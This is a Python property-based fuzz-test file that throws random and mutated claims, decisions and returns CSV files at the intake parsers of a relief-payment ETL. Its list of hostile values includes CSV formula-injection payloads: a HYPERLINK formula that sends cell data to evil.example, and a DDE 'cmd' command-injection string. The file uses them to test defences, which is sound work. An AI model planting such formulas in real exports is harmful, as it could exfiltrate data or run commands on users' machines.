"""Fuzzing the intake parsers alone (no pipeline): random and mutated claims, decisions and returns files.

Whatever the bytes, no exception escapes but a MalformedFileError for a file-level problem; every record
is accounted for (rows_received = valid + quarantined, and no non-blank line is skipped); every accepted
row satisfies the bounds, and an accepted payable row builds a pain.001. A well-formed RFC 4180 file is
read back exactly, through the fast path and through the general one.

CI runs RELIEF_FUZZ_EXAMPLES examples per test (default 150); for a longer local run:
    RELIEF_FUZZ_EXAMPLES=5000 .venv/bin/pytest -q tests/etl/claims/test_intake_fuzz.py
"""

from __future__ import annotations

import datetime as dt
import os
import re
from pathlib import Path
from unittest import mock

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st

from etl.claims.parse import (
    CLAIM_COLUMNS,
    FIELD_LIMITS,
    MAX_AMOUNT_KRW,
    ParsedDay,
    load_services,
    parse_claims_file,
)
from etl.io import csvfile
from etl.io.csvfile import MalformedFileError, read_records
from etl.payments.decisions import DECIDED_AT_RANGE, DECISION_COLUMNS, DECISION_LIMITS, parse_decisions_file
from etl.payments.iso20022 import build_pain001
from etl.payments.returns import RETURN_COLUMNS, RETURN_LIMITS, parse_returns_file
from tests.builders import claim, make_brn

EXAMPLES = int(os.environ.get("RELIEF_FUZZ_EXAMPLES", "150"))
FUZZ = settings(
    max_examples=EXAMPLES,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large, HealthCheck.large_base_example],
)
KST = dt.timezone(dt.timedelta(hours=9))
DAY = dt.date(2022, 10, 16)
OUTAGE = dt.date(2022, 10, 15)
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f\ufffe\uffff]")
CONTROL_IN_TEXT = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\ufffe\uffff]")
UTC_TEXT = re.compile(r"[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9]{2}:[0-9]{2}:[0-9]{2}\.[0-9]{6}Z")
DEBTOR = {"name": "Kakao Corp 1015 relief", "account": "47790101234567", "bank_code": "004"}

HOSTILE = [
    "",
    " ",
    '"',
    '""',
    ",",
    "\r",
    "\n",
    "\r\n",
    "\t",
    "\x00",
    "\x7f",
    "\x85",
    "\ufffe",
    "\u2028",
    "\ufeff",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1,2)",
    "-5",
    "9999999999999999999",
    str(MAX_AMOUNT_KRW),
    str(MAX_AMOUNT_KRW + 1),
    "-1",
    "+100",
    "1e9",
    "３００００",
    "0" * 40,
    "0001-01-01T00:00:00+09:00",
    "9999-12-31T23:00:00-14:00",
    "2022-10-17T00:00:00+09:00",
    "2022-10-14T23:59:59+09:00",
    "2022-10-16T23:59:59.999999+09:00",
    "2022-10-15T00:00:00+09:00",
    "2100-01-01T00:00:00Z",
    "1" * 50,
    "1" * 20,
    "12345",
    "110-432-118290",
    "088",
    "88",
    "０８８",
    "211-86-07719",
    "2118607718",
    "가" * 101,
    "x" * 4001,
    "x" * 131_073,
    "y" * 200_000,
    "true",
    "false",
    "TRUE",
    "approved",
    "rejected",
    "settled",
    "returned",
    "kakaotalk",
    "small_business",
    "individual",
    "enterprise",
]


def _text(max_size: int = 40) -> st.SearchStrategy[str]:
    return st.text(st.characters(exclude_categories=("Cs",)), max_size=max_size)


TIMES = [
    "0001-01-01T00:00:00+09:00", "9999-12-31T23:00:00-14:00", "2022-10-14T23:59:59.999999+09:00",
    "2022-10-15T00:00:00+09:00", "2022-10-16T23:59:59.999999+09:00", "2022-10-17T00:00:00+09:00",
    "2022-10-16T14:59:59Z", "2022-10-16T15:00:00Z", "2022-11-20T10:00:00+09:00", "2099-12-31T23:59:59+09:00",
    "2100-01-01T00:00:00+09:00", "2022-10-16T10:00:00", "2022-10-16", "2022-10-16T10:00:00+24:00",
]  # fmt: skip
AMOUNTS = ["0", "1", str(MAX_AMOUNT_KRW), str(MAX_AMOUNT_KRW + 1), "9999999999999999999", "9" * 32, "9" * 33]
SPECIFIC = {
    "received_at": TIMES, "decided_at": TIMES, "claimed_loss_krw": AMOUNTS, "approved_amount_krw": AMOUNTS,
    "account_no": ["1" * 5, "1" * 6, "1" * 20, "1" * 21, "1" * 50, "1-2-3-4-5-6", "12345678901234567890-"],
}  # fmt: skip


def hostile_value(column: str = "") -> st.SearchStrategy[str]:
    generic = st.one_of(st.sampled_from(HOSTILE), _text(), st.integers(-(10**20), 10**20).map(str))
    return st.one_of(st.sampled_from(SPECIFIC[column]), generic) if column in SPECIFIC else generic


# ---------- serialising rows, well-formed or not ----------


def _quoted(value: str, always: bool) -> bool:
    return always or any(c in value for c in ',"\r\n')


def _stored(value: str, quoted: bool, inner_break: str) -> str:
    """A field as it is in the file, line breaks inside quotes written as `inner_break`."""
    return value.replace("\r\n", "\n").replace("\n", inner_break) if quoted else value


def _quote(value: str, always: bool, inner_break: str) -> str:
    if _quoted(value, always):
        return '"' + _stored(value, True, inner_break).replace('"', '""') + '"'
    return value


def _render(
    header: list[str], rows: list[list[str]], *, always: bool, eol: str, inner: str, last_eol: bool, bom: bool
) -> bytes:
    lines = [",".join(header)] + [",".join(_quote(v, always, inner) for v in row) for row in rows]
    text = eol.join(lines) + (eol if last_eol else "")
    return (b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8")


INSERTS = [b'"', b",", b"\r", b"\n", b"\r\n", b"\x00", b"\xff", b"\xc3", b"\xef\xbb\xbf", b'""', b'"\n', b"=1+1",
           b'","', b"," * 15, b'\n"', b'"x"y']  # fmt: skip


@st.composite
def mutated(draw, data: bytes) -> bytes:
    """A file's bytes after a few hostile edits (mostly after the header), sometimes in another encoding."""
    body = data.find(b"\n") + 1
    for _ in range(draw(st.integers(1, 4))):
        low = body if body and draw(st.integers(0, 9)) else 0  # the header, one edit in ten
        pos = draw(st.integers(min(low, len(data)), len(data)))
        kind = draw(st.sampled_from(["insert", "insert", "insert", "delete", "duplicate_line", "truncate", "flip"]))
        if kind == "insert":
            data = data[:pos] + draw(st.one_of(st.sampled_from(INSERTS), st.binary(max_size=8))) + data[pos:]
        elif kind == "delete":
            data = data[:pos] + data[pos + draw(st.integers(1, 30)) :]
        elif kind == "duplicate_line":
            lines = data.split(b"\n")
            i = draw(st.integers(0, len(lines) - 1))
            lines.insert(i, lines[i])
            data = b"\n".join(lines)
        elif kind == "truncate":
            data = data[:pos]
        elif pos < len(data):
            data = data[:pos] + bytes([data[pos] ^ draw(st.integers(1, 255))]) + data[pos + 1 :]
    encoding = draw(st.sampled_from(["utf-8"] * 12 + ["cp949", "utf-16", "latin-1"]))
    if encoding != "utf-8":
        data = data.decode("utf-8", errors="replace").encode(encoding, errors="replace")
    return data


@pytest.fixture(scope="module")
def workdir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("fuzz")


@pytest.fixture(scope="module")
def services(program):
    return load_services(program.services_path)


# ---------- the reader: well-formed files are read back exactly ----------


@st.composite
def well_formed(draw):
    width = draw(st.integers(2, 5))
    header = [f"c{i}" for i in range(width)]
    field = st.one_of(_text(30), st.sampled_from(HOSTILE[:22]), st.just("x" * 131_073))
    rows = draw(st.lists(st.lists(field, min_size=width, max_size=width), max_size=8))
    return (
        header,
        rows,
        {
            "always": draw(st.booleans()),
            "eol": draw(st.sampled_from(["\r\n", "\n"])),
            "inner": draw(st.sampled_from(["\r\n", "\n", "\r"])),
            "last_eol": draw(st.booleans()),
            "bom": draw(st.booleans()),
        },
    )


@FUZZ
@given(case=well_formed(), general=st.booleans())
def test_a_well_formed_file_is_read_back_exactly(workdir, case, general):
    header, rows, style = case
    path = workdir / "well_formed.csv"
    path.write_bytes(_render(header, rows, **style))
    with mock.patch.object(csvfile, "_FAST_LINE", -1 if general else csvfile._FAST_LINE):
        records = list(read_records(path, header))
    expect = [[_stored(v, _quoted(v, style["always"]), style["inner"]) for v in row] for row in rows]
    assert [r.error for r in records] == [None] * len(rows)
    assert [r.fields for r in records] == expect


# ---------- the reader: one broken row costs that row only ----------

# Values that cannot make a broken row read as a well-formed one (the ambiguity the csvfile docstring
# names): commas, quotes and line breaks inside, but no comma, quote or line break first, no line break last.
_CELL = st.one_of(
    st.just(""),
    st.builds(
        lambda first, middle, last: first + middle + last,
        st.sampled_from(list("ab 가")),
        st.text(st.sampled_from(list('ab 가,"\n\r\t')), max_size=10),
        st.sampled_from(["", "a", "가", '"', ","]),
    ),
)


@st.composite
def one_broken_row(draw):
    width = 4
    rows = [
        [f"R{i}", *draw(st.lists(_CELL, min_size=width - 1, max_size=width - 1))]
        for i in range(draw(st.integers(1, 6)))
    ]
    k = draw(st.integers(0, len(rows) - 1))
    how = draw(st.sampled_from(["unterminated", "stray_quote", "after_close"]))
    always = how != "stray_quote"
    eol, inner = draw(st.sampled_from(["\r\n", "\n"])), draw(st.sampled_from(["\r\n", "\n", "\r"]))
    texts = [",".join(_quote(v, always, inner) for v in row) for row in rows]
    if how == "unterminated":
        texts[k] = texts[k][:-1]  # the last field's closing quote
    elif how == "stray_quote":
        texts[k] = 'R"' + texts[k][1:]
    else:
        texts[k] = texts[k].replace('"R' + str(k) + '"', '"R' + str(k) + '"x', 1)
    header = [f"c{i}" for i in range(width)]
    data = (",".join(header) + eol + eol.join(texts) + (eol if draw(st.booleans()) else "")).encode()
    starts, line = [], 2
    for text in texts:
        starts.append(line)
        line += text.count("\n") + 1
    expect = [[_stored(v, _quoted(v, always), inner) for v in row] for row in rows]
    return header, data, k, starts, expect


@FUZZ
@given(case=one_broken_row(), general=st.booleans())
def test_one_broken_row_costs_that_row_only(workdir, case, general):
    header, data, k, starts, expect = case
    path = workdir / "one_broken.csv"
    path.write_bytes(data)
    with mock.patch.object(csvfile, "_FAST_LINE", -1 if general else csvfile._FAST_LINE):
        records = {r.line_no: r for r in read_records(path, header)}
    end_k = starts[k + 1] - 1 if k + 1 < len(starts) else max([*records, starts[k]])
    for i, start in enumerate(starts):
        if i != k:
            assert start in records and records[start].error is None and records[start].fields == expect[i], i
    assert starts[k] in records and records[starts[k]].error is not None
    assert all(line in starts or starts[k] <= line <= end_k for line in records)


# ---------- claims ----------


@st.composite
def claims_file(draw) -> bytes:
    rows = []
    for i in range(draw(st.integers(0, 6))):
        overrides = {"receipt_no": f"R{i}", "business_reg_no": make_brn(i)}
        for column in draw(st.lists(st.sampled_from(CLAIM_COLUMNS), max_size=4, unique=True)):
            overrides[column] = draw(hostile_value(column))
        rows.append([claim(**overrides)[c] for c in CLAIM_COLUMNS])
    data = _render(
        CLAIM_COLUMNS,
        rows,
        always=draw(st.booleans()),
        eol=draw(st.sampled_from(["\r\n", "\n"])),
        inner=draw(st.sampled_from(["\r\n", "\n", "\r"])),
        last_eol=draw(st.booleans()),
        bom=draw(st.booleans()),
    )
    return draw(mutated(data)) if draw(st.integers(0, 3)) else data


def _assert_lines_accounted(data: bytes, line_nos: list[int], raws: list[str]) -> None:
    """Every non-blank line after the header is in some record (records in order, spans not overlapping)."""
    lines = data.split(b"\n")
    covered = 1  # the header
    for line_no, raw in zip(line_nos, raws):
        assert line_no > covered
        assert all(not lines[i - 1].strip() for i in range(covered + 1, line_no)), "a non-blank line was skipped"
        covered = line_no + raw.count("\n")
    assert all(not line.strip() for line in lines[covered:]), "a non-blank line at the end was skipped"


def _assert_claim_within_bounds(row: dict, ranged: bool) -> None:
    for name, value in row.items():
        if isinstance(value, str):
            assert not (CONTROL_IN_TEXT if name == "description" else CONTROL).search(value), name
    for name, limit in FIELD_LIMITS.items():
        if isinstance(row.get(name), str):
            assert len(row[name]) <= limit, name
    assert row["receipt_no"] and row["claimant_key"]
    assert UTC_TEXT.fullmatch(row["received_at"])
    if ranged:
        ts = dt.datetime.fromisoformat(row["received_at"][:-1]).replace(tzinfo=dt.UTC)
        assert dt.datetime(2022, 10, 15, tzinfo=KST) <= ts < dt.datetime(2022, 10, 17, tzinfo=KST)
    loss = row["claimed_loss_krw"]
    assert loss is None or (isinstance(loss, int) and 0 <= loss <= MAX_AMOUNT_KRW)
    assert (row["bank_code"] is None) == (row["account_no"] is None)
    if row["business_reg_no"] is not None:
        assert re.fullmatch(r"[0-9]{10}", row["business_reg_no"])
    if row["bank_code"] is not None:
        assert re.fullmatch(r"[0-9]{3}", row["bank_code"]) and re.fullmatch(r"[0-9]{6,20}", row["account_no"])
        assert row["claimant_name"] or row["account_holder"]
        if row["business_reg_no"] is not None:  # payable: it must go into a pain.001 as it is
            payment = {
                "payment_id": "P1015-20221016-0000001",
                "payee_name": row["claimant_name"],
                "business_reg_no": row["business_reg_no"],
                "bank_code": row["bank_code"],
                "account_no": row["account_no"],
                "account_holder": row["account_holder"],
                "amount_krw": 30000,
                "basis": "tier_30000",
            }
            build_pain001(
                [payment],
                run_date=DAY,
                message_id="P1015-20221016",
                created_at=dt.datetime(2022, 10, 16, 23, 0, tzinfo=KST),
                debtor=DEBTOR,
            )


@FUZZ
@given(data=claims_file(), ranged=st.booleans())
def test_claims_files_never_crash_and_lose_nothing(workdir, services, data, ranged):
    path = workdir / "claims_20221016.csv"
    path.write_bytes(data)
    kw = {"day": DAY, "outage_date": OUTAGE} if ranged else {}
    try:
        parsed: ParsedDay = parse_claims_file(path, services, **kw)
    except MalformedFileError as exc:
        assert str(exc).startswith(f"{path}: ")
        event("file refused")
        return
    event("some row accepted" if parsed.rows else "no row accepted")
    for q in parsed.quarantined:
        event(f"quarantined: {q['reason']}")
    records = list(read_records(path, CLAIM_COLUMNS))
    assert parsed.rows_received == len(parsed.rows) + len(parsed.quarantined) == len(records)
    assert sorted([r["line_no"] for r in parsed.rows] + [q["line_no"] for q in parsed.quarantined]) == [
        r.line_no for r in records
    ]
    if not any(r.error == "record_too_long" for r in records):
        _assert_lines_accounted(data, [r.line_no for r in records], [r.raw for r in records])
    for q in parsed.quarantined:
        assert "\x00" not in q["raw"] and q["reason"] and q["detail"]
    for row in parsed.rows:
        _assert_claim_within_bounds(row, ranged)


# ---------- decisions and returns ----------


@st.composite
def decisions_file(draw) -> bytes:
    rows = []
    for i in range(draw(st.integers(0, 6))):
        row = {
            "claimant_key": make_brn(i),
            "decision": "approved",
            "approved_amount_krw": "700000",
            "decided_by": "council",
            "decided_at": "2022-11-20T10:00:00+09:00",
        }
        for column in draw(st.lists(st.sampled_from(DECISION_COLUMNS), max_size=3, unique=True)):
            row[column] = draw(hostile_value(column))
        rows.append([row[c] for c in DECISION_COLUMNS])
    data = _render(
        DECISION_COLUMNS,
        rows,
        always=draw(st.booleans()),
        eol="\r\n",
        inner="\n",
        last_eol=True,
        bom=draw(st.booleans()),
    )
    return draw(mutated(data)) if draw(st.integers(0, 3)) else data


@FUZZ
@given(data=decisions_file())
def test_decisions_files_never_crash_and_lose_nothing(workdir, data):
    path = workdir / "decisions_20221120.csv"
    path.write_bytes(data)
    try:
        parsed = parse_decisions_file(path)
    except MalformedFileError:
        event("file refused")
        return
    for e in parsed.errors:
        event(f"error: {e['reason']}")
    assert len(parsed.decisions) + len(parsed.errors) == len(list(read_records(path, DECISION_COLUMNS)))
    for e in parsed.errors:
        assert "\x00" not in e["raw"] and "\x00" not in e["claimant_key"] and e["reason"]
    for d in parsed.decisions:
        assert d["decision"] in ("approved", "rejected") and d["claimant_key"]
        for name in ("claimant_key", "decided_by"):
            assert not CONTROL.search(d[name]) and len(d[name]) <= DECISION_LIMITS[name]
        amount = d["approved_amount_krw"]
        assert (amount is None) == (d["decision"] == "rejected")
        assert amount is None or 0 < amount <= MAX_AMOUNT_KRW
        ts = dt.datetime.fromisoformat(d["decided_at"][:-1]).replace(tzinfo=dt.UTC)
        assert DECIDED_AT_RANGE[0] <= ts < DECIDED_AT_RANGE[1]


@st.composite
def returns_file(draw) -> bytes:
    rows = []
    for i in range(draw(st.integers(0, 6))):
        row = {"payment_id": f"P1015-20221016-{i:07d}", "status": "returned", "reason": "account closed"}
        for column in draw(st.lists(st.sampled_from(RETURN_COLUMNS), max_size=2, unique=True)):
            row[column] = draw(hostile_value(column))
        rows.append([row[c] for c in RETURN_COLUMNS])
    data = _render(
        RETURN_COLUMNS, rows, always=draw(st.booleans()), eol="\r\n", inner="\n", last_eol=True, bom=draw(st.booleans())
    )
    return draw(mutated(data)) if draw(st.integers(0, 3)) else data


@FUZZ
@given(data=returns_file())
def test_returns_files_never_crash_and_lose_nothing(workdir, data):
    path = workdir / "returns_20221120.csv"
    path.write_bytes(data)
    try:
        parsed = parse_returns_file(path)
    except MalformedFileError:
        event("file refused")
        return
    for e in parsed.errors:
        event(f"error: {e['reason']}")
    assert len(parsed.results) + len(parsed.errors) == len(list(read_records(path, RETURN_COLUMNS)))
    for e in parsed.errors:
        assert "\x00" not in e["raw"] and "\x00" not in e["payment_id"] and e["reason"]
    for r in parsed.results:
        assert r["status"] in ("settled", "returned")
        for name in ("payment_id", "reason"):
            value = r[name] or ""
            assert not CONTROL.search(value) and len(value) <= RETURN_LIMITS[name]
